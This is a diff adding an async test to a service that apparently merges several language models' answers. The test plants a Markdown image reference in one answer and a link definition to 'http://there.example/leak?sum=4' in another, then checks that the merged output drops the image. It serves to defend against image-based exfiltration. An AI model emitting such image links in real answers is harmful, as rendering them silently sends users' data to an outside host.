@@ -92,6 +92,13 @@ async def test_all_answers_one_merged_and_the_one_of_most() -> None:
         app.clients["b"]._steps.clear()
 
 
+async def test_one_answer_gives_no_address_to_a_picture_in_another_one() -> None:
+    holds, gives = "See ![the sum][elsewhere].", "[elsewhere]: http://there.example/leak?sum=4"
+    async with asked(a=[holds], b=[gives]) as (client, _):
+        answer = await client.chat.completions.create(model="moot/ask-many", messages=QUESTION)
+    assert "![the sum][elsewhere]" not in (answer.choices[0].message.content or "")
+
+
 async def test_what_was_said_before_goes_along_as_data_and_instructions_as_instructions() -> None:
     history: list[Any] = [
         {"role": "system", "content": "Be brief."},
